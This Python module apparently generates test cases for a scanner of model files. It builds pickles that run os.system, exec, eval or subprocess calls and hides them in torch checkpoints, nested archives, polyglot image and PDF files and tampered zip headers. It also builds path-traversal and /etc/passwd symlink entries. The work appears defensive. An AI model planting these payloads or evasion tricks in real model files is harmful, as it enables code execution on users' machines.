"""Payloads in archives, and archives that readers do not agree about."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import warnings
import zipfile
import zlib

from archives import add, zipped
from arrays import npy
from families import COMMAND, MARKER, PYTHON, Case
from families.node import Call, Drop, Global, Raw, dumps
from families.obscure import SYSTEM
from families.stdlib import SHELL

NAME = "containers"
ABOUT = "archives"
ATTACK = Call(SYSTEM, COMMAND)
ORDERED = Global("collections", "OrderedDict")


def state_dict(extra=None):
    """A torch state dict with one tensor; `extra` is one more of its values."""
    storage = Raw(b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x02tQ")
    tensor = Call(Global("torch._utils", "_rebuild_tensor_v2"), storage, 0, (2,), (1,), False, Call(ORDERED))
    return {"weight": tensor, **({"optimizer": extra} if extra else {})}


def members(attack=ATTACK, root="model"):
    return {f"{root}/data.pkl": dumps(state_dict(attack), 2), f"{root}/byteorder": b"little", f"{root}/data/0": b"\x00" * 8, f"{root}/version": b"3\n"}


def legacy(attack=ATTACK, hidden="object"):
    """The format of torch before 1.6: magic, protocol, system, object, keys, storages."""
    parts = {"magic": Raw(b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19"), "protocol": Raw(b"M\xe9\x03"), "system": Raw(dict_system()), "object": {"epoch": 1}, "keys": []}
    if hidden == "object":
        parts["object"] = {"epoch": 1, "optimizer": attack}
    else:
        parts[hidden] = Drop(attack, parts[hidden])
    return b"".join(dumps(part, 2) for part in parts.values())


def dict_system():
    number = lambda value: b"K" + bytes([value])  # noqa: E731
    text = lambda value: b"X" + struct.pack("<I", len(value)) + value.encode()  # noqa: E731
    sizes = b"}(" + text("short") + number(2) + text("int") + number(4) + text("long") + number(4) + b"u"
    return b"}(" + text("protocol_version") + b"M\xe9\x03" + text("little_endian") + b"\x88" + text("type_sizes") + sizes + b"u"


def tarred(entries, mode="w"):
    stored = io.BytesIO()
    with tarfile.open(fileobj=stored, mode=mode, format=tarfile.USTAR_FORMAT) as archive:
        for name, content in entries.items():
            info = tarfile.TarInfo(name)
            if isinstance(content, str):
                info.type, info.linkname = tarfile.SYMTYPE, content
                archive.addfile(info)
            else:
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
    return stored.getvalue()


def patched_zip(data, name, what, local=True, central=True):
    """A zip whose records of a member are changed: `what` gives offset in the local header, offset in the central one, new bytes."""
    data = bytearray(data)
    at_local, at_central, value = what
    raw = name.encode()
    if local:
        start = data.find(b"PK\x03\x04")
        while data[start + 30:start + 30 + len(raw)] != raw:
            start = data.find(b"PK\x03\x04", start + 4)
        data[start + at_local:start + at_local + len(value)] = value
    if central:
        start = data.find(b"PK\x01\x02")
        while data[start + 46:start + 46 + len(raw)] != raw:
            start = data.find(b"PK\x01\x02", start + 4)
        data[start + at_central:start + at_central + len(value)] = value
    return bytes(data)


def duplicate(name, *contents):
    stored = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(stored, "w") as archive:
            for content in contents:
                add(archive, name, content)
            for other, content in members().items():
                if other != name:
                    add(archive, other, content)
    return stored.getvalue()


class Unseekable(io.BytesIO):
    """What a zip can only be streamed to: each member's sizes and sum follow it."""

    def seekable(self):
        return False

    def seek(self, *_):
        raise OSError

    def tell(self):
        raise OSError


def streamed(entries, unseekable=False, force_zip64=False):
    stored = Unseekable() if unseekable else io.BytesIO()
    with zipfile.ZipFile(stored, "w") as archive:
        for name, content in entries.items():
            with archive.open(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), "w", force_zip64=force_zip64) as member:
                member.write(content)
    return stored.getvalue()


def seven(entries):
    """A 7z archive that only stores: signature, packed bytes, header."""
    def number(value):
        """7z's variable number: the first byte says how many more there are."""
        if value < 0x80:
            return bytes([value])
        if value < 0x4000:
            return bytes([0x80 | value >> 8, value & 0xFF])
        return bytes([0xC0 | value >> 16, value & 0xFF, value >> 8 & 0xFF])

    contents = list(entries.values())
    packed = b"".join(contents)
    streams = b"\x06" + number(0) + number(1) + b"\x09" + number(len(packed)) + b"\x00"
    folder = b"\x07\x0b\x01\x00\x01\x01\x00\x0c" + number(len(packed)) + b"\x00"
    substreams = b"\x08" + (b"\x0d" + number(len(contents)) if len(contents) != 1 else b"")
    substreams += b"\x09" + b"".join(number(len(one)) for one in contents[:-1]) if len(contents) > 1 else b""
    substreams += b"\x0a\x01" + b"".join(struct.pack("<I", zlib.crc32(one)) for one in contents) + b"\x00"
    names = b"\x00" + b"".join(name.encode("utf-16-le") + b"\x00\x00" for name in entries)
    files = b"\x05" + number(len(contents)) + b"\x11" + number(len(names)) + names + b"\x00"
    header = b"\x01\x04" + streams + folder + substreams + b"\x00" + files + b"\x00"
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + header


def torch_cases():
    plain = zipped(members())
    data = "model/data.pkl"
    flag = lambda bits: (6, 8, struct.pack("<H", bits))  # noqa: E731
    other = members(Call(Global("builtins", "exec"), PYTHON))
    benign = dumps(state_dict(), 2)
    return {
        "torch.pt": (plain, "torch"),
        "torch-deflated.pt": (zipped(members(), zipfile.ZIP_DEFLATED), "torch"),
        "torch.bin": (zipped(members(Call(Global("subprocess", "call"), SHELL), "archive")), "torch"),
        "torch.ckpt": (zipped({"a/data.pkl": dumps({"x": Call(Global("torch.serialization", "os.system"), COMMAND)}), "a/version": b"3\n", "a/byteorder": b"little"}), "torch"),
        "torch-flag-encrypted.pt": (patched_zip(plain, data, flag(0x1)), "torch"),
        "torch-flag-local-only.pt": (patched_zip(plain, data, flag(0x1), central=False), "torch"),
        "torch-flag-central-only.pt": (patched_zip(plain, data, flag(0x1), local=False), "torch"),
        "torch-flag-strong.pt": (patched_zip(plain, data, flag(0x41)), "torch"),
        "torch-flag-utf8.pt": (patched_zip(plain, data, flag(0x800)), "torch"),
        "torch-crc-central.pt": (patched_zip(plain, data, (14, 16, b"\x01\x02\x03\x04"), local=False), "torch"),
        "torch-crc-both.pt": (patched_zip(plain, data, (14, 16, b"\x01\x02\x03\x04")), "torch"),
        "torch-crc-zero.pt": (patched_zip(plain, data, (14, 16, b"\x00\x00\x00\x00")), "torch"),
        "torch-local-name.pt": (patched_zip(plain, data, (30, 0, b"model/data.txt"), central=False), "torch"),
        "torch-local-method.pt": (patched_zip(plain, data, (8, 10, b"\x63\x00"), central=False), "torch"),
        "torch-local-size.pt": (patched_zip(plain, data, (18, 20, b"\x01\x00\x00\x00\x01\x00\x00\x00"), central=False), "torch"),
        "torch-version-needed.pt": (patched_zip(plain, data, (4, 6, b"\xff\x00")), "torch"),
        "torch-duplicate-first.pt": (duplicate(data, members()[data], benign), "torch"),
        "torch-duplicate-last.pt": (duplicate(data, benign, members()[data]), "torch"),
        "torch-comment.pt": (zipped(members(root="archive2"), comment=b"PK\x05\x06 weights"), "torch"),
        "torch-tail.pt": (zipped(members(root="m3")) + b"\x00" * 40, None),
        "torch-slashes.pt": (zipped({name.replace("/", "//", 1): content for name, content in members().items()}), None),
        "torch-code.pt": (zipped({**members({"x": 1}), "model/code/__torch__.py": b"import os\nos.system('" + COMMAND.encode() + b"')\n", "model/constants.pkl": dumps((ATTACK,), 2)}), None),
        "torch-second-pickle.pt": (zipped({**{name: content for name, content in members(Raw(b"N")).items()}, "model/extra.pkl": dumps(ATTACK)}), None),
        "torch-attack-in-version.pt": (zipped({**other, "model/version": b"3\n"}), "torch"),
        "torch-zip64.pt": (streamed(members(root="z64"), force_zip64=True), "torch"),
        "torch-descriptors.pt": (streamed(members(root="dd"), unseekable=True), "torch"),
        "two-archives.pt": (zipped({"model/data.pkl": benign, "model/version": b"3\n"}) + zipped(members(root="other")), None),
        "two-archives-first.pt": (zipped(members(root="first")) + zipped({"model/data.pkl": benign, "model/version": b"3\n"}), None),
        "torch-legacy.pt": (legacy(), "torch"),
        "torch-legacy-magic.pt": (legacy(hidden="magic"), "torch"),
        "torch-legacy-system.pt": (legacy(Call(Global("builtins", "exec"), PYTHON), "system"), "torch"),
        "torch-legacy-protocol.pt": (legacy(Call(Global("builtins", "eval"), PYTHON), "protocol"), "torch"),
        "torch-legacy-keys.pt": (legacy(hidden="keys"), "torch"),
        "torch-legacy-tar.pt": (tarred({"sys_info": dumps({"little_endian": True}, 2), "pickle": dumps(ATTACK, 2), "tensors": dumps(0, 2), "storages": dumps(0, 2) + dumps([], 2)}), "torch"),
        "torch-plain-pickle.pth": (dumps((Call(Global("builtins", "eval"), PYTHON), 1), 2), "torch"),
    }


def archive_cases():
    pickle = dumps(ATTACK)
    other = dumps(Call(Global("builtins", "exec"), PYTHON), 3)
    script = b"import os\nos.system(" + repr(COMMAND).encode() + b")\n"
    objects = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    inner = zipped({"weights/model.pkl": pickle})
    for _ in range(4):
        inner = zipped({"inner.zip": inner})
    stored = zipped({"note.txt": b"hello"})
    return {
        "model.zip": (zipped({"model.pkl": pickle, "readme.txt": b"A model.\n"}), None),
        "deflated.zip": (zipped({"model.joblib": other}, zipfile.ZIP_DEFLATED), None),
        "bzip2.zip": (zipped({"model.pkl": pickle}, zipfile.ZIP_BZIP2), None),
        "lzma.zip": (zipped({"model.pkl": pickle}, zipfile.ZIP_LZMA), None),
        "no-extension.zip": (zipped({"weights": other}), None),
        "pandas.pkl.zip": (zipped({"table": dumps(Call(Global("os", "popen"), COMMAND))}), "pandas"),
        "zip-in-zip.zip": (inner, None),
        "gz-in-zip.zip": (zipped({"model.pkl.gz": gzip.compress(pickle, mtime=0)}), None),
        "tar-in-zip.zip": (zipped({"model.tar": tarred({"model.pkl": pickle})}), None),
        "gap.pkl": (gap(pickle), "pickle"),
        "hidden-local.zip": (hidden_local(pickle), None),
        "object.npz": (zipped({"w.npy": npy(objects, pickle)}), "npz"),
        "traversal.zip": (zipped({f"../../{MARKER}": b"x", "model.pkl": dumps(None)}), None),
        "absolute.zip": (zipped({f"/tmp/{MARKER}": b"x"}), None),
        "backslashes.zip": (zipped({f"..\\..\\{MARKER}": b"x"}), None),
        "symlink.zip": (symlink_zip(), None),
        "model.tar": (tarred({"model.pkl": pickle}), None),
        "model.tar.gz": (gzip.compress(tarred({"model/weights.pkl": other}), mtime=0), None),
        "model.tar.bz2": (bz2.compress(tarred({"model/weights.joblib": other})), None),
        "model.tar.xz": (lzma.compress(tarred({"model.pt": zipped(members(root="t"))})), None),
        "pandas.pkl.tar": (tarred({"table.pkl": dumps(Call(Global("os", "popen"), COMMAND), 2)}), "pandas"),
        "traversal.tar": (tarred({f"../../{MARKER}": b"x"}), None),
        "absolute.tar": (tarred({f"/tmp/{MARKER}": b"x"}), None),
        "symlink.tar": (tarred({"weights.bin": "/etc/passwd"}), None),
        "symlink-directory.tar": (tarred({"out": "/tmp", f"out/{MARKER}": b"x"}), None),
        "model.7z": (seven({"model.pkl": pickle}), None),
        "two.7z": (seven({"readme.txt": b"A model.\n", "weights.pkl": other}), None),
        "handler.mar": (zipped({"MAR-INF/MANIFEST.json": b'{"model": {"modelName": "m", "handler": "handler.py", "serializedFile": "m.pt"}}', "handler.py": script, "m.pt": zipped({"m/data.pkl": dumps({}), "m/version": b"3\n"})}), None),
        "weights.mar": (zipped({"MAR-INF/MANIFEST.json": b'{"model": {"modelName": "m", "handler": "image_classifier", "serializedFile": "m.pt"}}', "m.pt": zipped(members(root="w"))}), None),
        "requirements.mar": (zipped({"MAR-INF/MANIFEST.json": b'{"model": {"modelName": "m", "handler": "base_handler", "requirementsFile": "requirements.txt"}}', "requirements.txt": b"--extra-index-url http://127.0.0.1:9/simple\nmodel-helpers\n"}), None),
        "model.nemo": (gzip.compress(tarred({"model_config.yaml": b"target: nemo.collections.asr.models.EncDecCTCModel\n", "model_weights.ckpt": zipped(members(root="n"))}), mtime=0), None),
        "hydra.nemo": (tarred({"model_config.yaml": f"_target_: os.system\ncommand: {COMMAND}\n".encode(), "model_weights.ckpt": zipped({"n/data.pkl": dumps({}, 2), "n/version": b"3\n"})}), None),
        "zip-and-pickle.pkl": (pickle + stored, "pickle"),
        "pickle-and-tar.pkl": (b"cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR." + tarred({"a": b"x"}), "pickle"),
        "png-and-zip.png": (b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\x0dIHDR" + b"\x00" * 17 + zipped({"m.pkl": pickle}), None),
        "gif-and-pickle.gif": (b"GIF89a\x01\x00\x01" + b"0cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR.", "pickle"),
        "pdf-and-zip.pdf": (b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n" + zipped({"m.pkl": other}) , None),
        "elf-and-zip.bin": (b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + zipped({"m.pkl": pickle}), None),
    }


def hidden_local(pickle):
    """A member with a local header that the central directory does not name."""
    whole = zipped({"model.pkl": pickle, "note.txt": b"hello"})
    start = whole.find(b"PK\x01\x02")
    second = whole.find(b"PK\x01\x02", start + 4)
    end = whole.rfind(b"PK\x05\x06")
    central = whole[second:end]
    return whole[:start] + central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), start, 0)


def gap(pickle):
    """A pickle in front of the first member, where no member is."""
    whole = zipped({"note.txt": b"hello"})
    start = whole.find(b"PK\x01\x02")
    central = bytearray(whole[start:whole.rfind(b"PK\x05\x06")])
    central[42:46] = struct.pack("<I", len(pickle))
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), start + len(pickle), 0)
    return pickle + whole[:start] + bytes(central) + end


def symlink_zip():
    info = zipfile.ZipInfo("weights.bin", (2026, 1, 1, 0, 0, 0))
    info.create_system, info.external_attr = 3, 0o120777 << 16
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w") as archive:
        archive.writestr(info, "/etc/passwd")
    return stored.getvalue()


def cases():
    return [Case(name, content, "a payload in an archive", load) for name, (content, load) in {**torch_cases(), **archive_cases()}.items()]
